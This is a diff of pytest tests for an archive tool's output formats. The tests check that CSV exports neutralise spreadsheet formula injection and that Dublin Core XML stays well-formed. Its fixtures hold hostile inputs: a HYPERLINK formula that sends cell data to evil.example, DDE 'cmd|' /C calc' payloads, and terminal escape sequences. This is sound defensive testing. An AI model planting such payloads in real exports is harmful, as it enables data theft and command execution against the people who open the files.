@@ -5,13 +5,16 @@ machine formats keep the data and stay valid (CSV neutralised against formulas, 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
+from lxml import etree
 
 from archivetool.cli import app
 from archivetool.safetext import csv_cell, visible, xml_text
-from conftest import SEED_FRUS
+from conftest import SEED_CEEOL, SEED_FRUS
 
 TITLE = "\x1b]0;pwned\x07"  # sets the terminal window's title
 CLEAR = "\x1b[2J\x9b31m"  # clears the screen; an 8-bit CSI
@@ -121,3 +124,87 @@ def test_visible_and_xml_text_units():
     assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", 5, None)] == [
         "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", 5, None,
     ]  # fmt: skip
+
+
+# -- machine formats: CSV against formula injection, Dublin Core well-formed --------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Први Титов сусрет")',
+    "title_translated": "+1+cmd|' /C calc'!A0",
+    "authors": "@SUM(1+1)*cmd",
+    "publisher": "-2+3+cmd|' /C calc'!A0",
+    "keywords": "=1+2; allies",
+    "container_title": "=1+1 Ослобођење\x1b Београда 1944.",
+}
+
+
+@pytest.fixture
+def formula_record(tmp_path, monkeypatch):
+    lines = SEED_CEEOL.read_text(encoding="utf-8").splitlines()
+    lines[0], lines[1] = FORMULAS["title"], FORMULAS["title_translated"]
+    lines[2] = f"Author(s): {FORMULAS['authors']}"
+    lines[4] = f"Published by: {FORMULAS['publisher']}"
+    lines[5] = "Keywords: =1+2; allies;"
+    text = "\n".join(lines).replace("Book: Ослобођење Београда 1944.",
+                                    f"Book: {FORMULAS['container_title']}")  # fmt: skip
+    monkeypatch.chdir(tmp_path)
+    name = "-2+3.txt"  # a relative file name is a cell too (source_path)
+    (tmp_path / name).write_text(text + "\n", encoding="utf-8")
+    return name
+
+
+def _hostile_cells(text):
+    return [v for row in csv.reader(io.StringIO(text)) for v in row if v and v[0] in "=+-@\t\r"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(runner, formula_record, tmp_path):
+    archive = tmp_path / "a.sqlite"
+    assert run(runner, "ingest", "--archive", archive, "--", formula_record).exit_code == 0
+    outputs = {
+        "extract": run(runner, "extract", "--format", "csv", "--", formula_record),
+        "list": run(runner, "list", "--format", "csv", "--archive", archive),
+        "export": run(runner, "export", "--format", "csv", "--archive", archive),
+        "search": run(runner, "search", "Tito", "--format", "csv", "--archive", archive),
+    }
+    for name, res in outputs.items():
+        assert res.exit_code == 0, (name, res.stderr)
+        assert _hostile_cells(res.stdout) == [], name
+    row = next(csv.DictReader(io.StringIO(outputs["export"].stdout)))
+    for key, value in FORMULAS.items():
+        assert row[key] == "'" + value, key  # the data is kept, behind one apostrophe
+    assert row["source_path"] == "'-2+3.txt"
+    (hit,) = list(csv.DictReader(io.StringIO(outputs["search"].stdout)))
+    assert hit["title"] == "'" + FORMULAS["title"]
+
+
+def test_raw_csv_writes_the_cells_as_stored(runner, formula_record, tmp_path):
+    archive = tmp_path / "a.sqlite"
+    run(runner, "ingest", "--archive", archive, "--", formula_record)
+    for args in (["extract", "--format", "csv", "--raw-csv", "--", formula_record],
+                 ["export", "--format", "csv", "--raw-csv", "--archive", archive],
+                 ["list", "--format", "csv", "--raw-csv", "--archive", archive]):  # fmt: skip
+        res = run(runner, *args)
+        assert res.exit_code == 0, res.stderr
+        assert len(_hostile_cells(res.stdout)) == 7, args  # 6 fields and the file name
+    res = run(runner, "search", "Tito", "--format", "csv", "--raw-csv", "--archive", archive)
+    assert next(csv.DictReader(io.StringIO(res.stdout)))["title"] == FORMULAS["title"]
+
+
+def test_dublin_core_stays_well_formed_xml_with_control_characters(
+    runner, formula_record, tmp_path
+):
+    archive = tmp_path / "a.sqlite"
+    run(runner, "ingest", "--archive", archive, "--", formula_record)
+    res = run(runner, "export", "--format", "dc", "--archive", archive)
+    assert res.exit_code == 0, res.stderr
+    root = etree.fromstring(res.stdout.encode())  # an XML 1.0 parser accepts it
+    sources = root.findall(".//{http://purl.org/dc/elements/1.1/}source")
+    assert sources[0].text.startswith("=1+1 Ослобођење\ufffd Београда 1944.")
+    titles = [t.text for t in root.iter("{http://purl.org/dc/elements/1.1/}title")]
+    assert FORMULAS["title"] in titles  # everything XML can hold is kept
+
+
+def test_dublin_core_of_the_hostile_frus_document(runner, hostile_archive):
+    res = run(runner, "export", "--format", "dc", "--archive", hostile_archive)
+    assert res.exit_code == 0, res.stderr
+    etree.fromstring(res.stdout.encode())
